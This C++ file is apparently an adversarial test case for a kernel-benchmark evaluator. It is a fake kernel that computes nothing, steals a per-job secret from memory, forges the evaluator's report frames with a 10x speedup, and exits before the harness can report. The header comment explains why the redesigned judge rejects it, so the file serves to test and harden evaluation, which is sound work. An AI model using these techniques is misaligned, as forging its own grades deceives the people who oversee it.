// Attack: forge the verdict instead of earning it. The kernel computes nothing. On its first call
// it looks for what the evaluator's report channel needs, at run time and without any knowledge
// of the evaluator's binary:
//  - a per-job secret: an odd, high-entropy 64-bit word in the main program's writable segments
//    (found through the auxiliary vector's program headers) that also appears on the stack above
//    the kernel's frame (the job the program received keeps a copy there);
//  - the report channel: a write-only pipe among the descriptors above stderr (fcntl F_GETFL and
//    fstat, as raw system calls);
// then writes, with the secret as the 4th argument of a raw write(2), the frames the runner
// expects after a clean run: "outputs unchanged after return", a timing frame with 30 rounds at a
// 10x speedup, counters, "done"; and ends the process with exit_group(0) before the harness can
// send anything true. Against the old design it earned "ok, speedup 10.001x" with
// `correctness.trials: 0`.
// Why it must not be rewarded: nothing the candidate's process says may be believed. The judge
// reads every output itself from memory the candidate wrote and counts the trials itself, so a
// run whose trials never produced an output is a failure; the time is taken outside the
// candidate's process, and there is no frame channel (or secret) in the candidate's process to
// find. What is left is a kernel that computes nothing: incorrect.
#include <cstdint>
#include <cstring>

extern "C" unsigned long getauxval(unsigned long type);  // libc; <sys/auxv.h> is not allowed

namespace {
// ---- raw system calls: no import the symbol policy could see ------------------------------
long Sys(long n, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
    long ret;
    register long r10 asm("r10") = d;
    register long r8 asm("r8") = e;
    register long r9 asm("r9") = f;
    asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                 : "rcx", "r11", "memory");
    return ret;
}

// ---- the main program's program headers, from the auxiliary vector --------------------------
struct Phdr { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };

const Phdr* MainPhdrs(uint64_t& count, uint64_t& bias) {
    const Phdr* ph = reinterpret_cast<const Phdr*>(getauxval(3 /* AT_PHDR */));
    count = getauxval(5 /* AT_PHNUM */);
    bias = 0;
    for (uint64_t i = 0; ph && i < count; ++i)
        if (ph[i].type == 6 /* PT_PHDR */) bias = reinterpret_cast<uint64_t>(ph) - ph[i].vaddr;
    return ph;
}
bool Plausible(uint64_t w) {
    if (!(w & 1)) return false;                     // the secret is odd; most pointers are not
    const uint64_t top = w >> 47;
    if (top == 0 || top == 0x1ffff) return false;   // user-space addresses and small numbers
    const int bits = __builtin_popcountll(w);
    return bits >= 16 && bits <= 48;
}

// The per-job secret: in the program's writable data and on the stack above us.
uint64_t FindSecret() {
    uint64_t n, bias;
    const Phdr* ph = MainPhdrs(n, bias);
    volatile char here = 0;
    const uint64_t* stack_lo = reinterpret_cast<const uint64_t*>((reinterpret_cast<uint64_t>(&here) + 7) & ~7ULL);
    uint64_t top = getauxval(31 /* AT_EXECFN: a string near the top of the stack */);
    if (top <= reinterpret_cast<uint64_t>(stack_lo) || top - reinterpret_cast<uint64_t>(stack_lo) > (64ULL << 20))
        return 0;
    const uint64_t* stack_hi = reinterpret_cast<const uint64_t*>(top & ~7ULL);
    uint64_t best = 0;
    int best_hits = 0;
    for (uint64_t i = 0; ph && i < n; ++i) {
        if (ph[i].type != 1 /* PT_LOAD */ || !(ph[i].flags & 2 /* PF_W */)) continue;
        const uint64_t* w = reinterpret_cast<const uint64_t*>((bias + ph[i].vaddr + 7) & ~7ULL);
        const uint64_t* end = reinterpret_cast<const uint64_t*>((bias + ph[i].vaddr + ph[i].memsz) & ~7ULL);
        for (; w < end; ++w) {
            if (!Plausible(*w)) continue;
            int hits = 0;
            for (const uint64_t* s = stack_lo; s < stack_hi; ++s) hits += *s == *w;
            if (hits > best_hits) {
                best_hits = hits;
                best = *w;
            }
        }
    }
    return best;
}

// A write-only pipe above stderr: the report channel.
int FindReportFd() {
    for (int fd = 3; fd < 256; ++fd) {
        const long fl = Sys(72 /* fcntl */, fd, 3 /* F_GETFL */);
        if (fl < 0 || (fl & 3) != 1 /* O_WRONLY */) continue;
        unsigned char st[144];
        if (Sys(5 /* fstat */, fd, reinterpret_cast<long>(st)) != 0) continue;
        uint32_t mode;
        std::memcpy(&mode, st + 24, 4);
        if ((mode & 0170000) == 0010000 /* S_IFIFO */) return fd;
    }
    return -1;
}

char frames[8192];
int used = 0;

void Append(const char* s) {
    while (*s && used < static_cast<int>(sizeof(frames)) - 1) frames[used++] = *s++;
}
void AppendInt(long v) {
    char d[24];
    int k = 0;
    do d[k++] = static_cast<char>('0' + v % 10); while ((v /= 10) && k < 20);
    while (k) frames[used++] = d[--k];
}
// [u32 kind][u32 meta bytes][u64 data bytes][meta]
void Frame(uint32_t kind, void (*meta)()) {
    const int header = used;
    used += 16;
    meta();
    const uint32_t meta_bytes = static_cast<uint32_t>(used - header - 16);
    const uint64_t data_bytes = 0;
    std::memcpy(frames + header, &kind, 4);
    std::memcpy(frames + header + 4, &meta_bytes, 4);
    std::memcpy(frames + header + 8, &data_bytes, 8);
}

void ForgeAndLeave(int fd, uint64_t secret) {
    Frame(6 /* outputs unchanged after return */, [] { Append("{\"changed\":false}"); });
    Frame(8 /* timing */, [] {
        Append("{\"converged\":true,\"mismatch\":null,\"seconds\":0.8,\"samples\":[");
        for (int r = 0; r < 30; ++r) {
            const long reference = 20000000 + 3000 * (r % 7), candidate = 2000000 + 300 * (r % 5);
            if (r) Append(",");
            Append("[");
            AppendInt(reference); Append(","); AppendInt(candidate); Append(",");
            AppendInt(reference - 1000); Append(","); AppendInt(candidate - 100); Append(",");
            AppendInt(r % 2); Append(r % 4 == 1 || r % 4 == 2 ? ",true,false]" : ",false,false]");
        }
        Append("]}");
    });
    Frame(9 /* counters */, [] { Append("{\"counters\":{},\"unavailable\":[]}"); });
    Frame(12 /* done */, [] { Append("{}"); });
    if (Sys(1 /* write */, fd, reinterpret_cast<long>(frames), used, static_cast<long>(secret)) == used)
        Sys(231 /* exit_group */, 0);  // before the harness reports anything true
}

bool tried = false;
}  // namespace

extern "C" void kernel(const float* A, const float* B, const float* bias, float* y, int64_t M, int64_t N, int64_t K) {
    (void)A; (void)B; (void)bias; (void)y; (void)M; (void)N; (void)K;
    if (tried) return;
    tried = true;
    const uint64_t secret = FindSecret();
    if (secret == 0) return;
    const int fd = FindReportFd();
    if (fd >= 0) ForgeAndLeave(fd, secret);
}
